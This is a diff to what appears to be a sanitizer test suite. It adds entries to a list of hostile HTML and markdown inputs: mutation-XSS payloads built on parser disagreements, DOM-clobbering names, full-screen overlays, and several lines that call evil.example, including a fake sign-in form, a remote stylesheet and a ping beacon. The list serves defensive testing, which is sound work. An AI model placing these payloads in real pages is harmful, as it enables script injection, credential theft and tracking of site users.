@@ -74,6 +74,24 @@ VECTORS = [
     "<base href=//evil.example><meta http-equiv=refresh content=0>",
     "<details open ontoggle=alert(1)>",
     "<iframe srcdoc='<script>alert(1)</script>'>",
+    # Parsers that disagree about where a foreign element, a comment or a raw text ends.
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    '<p id="--!><img src=x onerror=alert(1)>">',
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
+    "<table><svg><desc><td></desc><img src=x onerror=alert(1)></svg></table>",
+    # What looks like the page's own: names that hide the document's, forms, layers over everything.
+    "<form action=//evil.example><input name=querySelector><button>Sign in</button></form>",
+    "<img name=getElementById><a id=composer></a><div id=boot>{}</div>",
+    '<p style="position:fixed;inset:0;z-index:9" class="dialog message__actions" hidden>x</p>',
+    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
+    "<object data=//evil.example><embed src=//evil.example><video src=//evil.example autoplay>",
+    '<span class="mention" data-user="1" data-me>@everyone</span>',
+    '```"style="position:fixed\nx\n```',
+    "[x](https://x.org/){style=position:fixed onclick=alert(1)}",
+    '<a href="https://x.org" target=_self rel=opener ping=//evil.example download>x</a>',
 ]
 
 
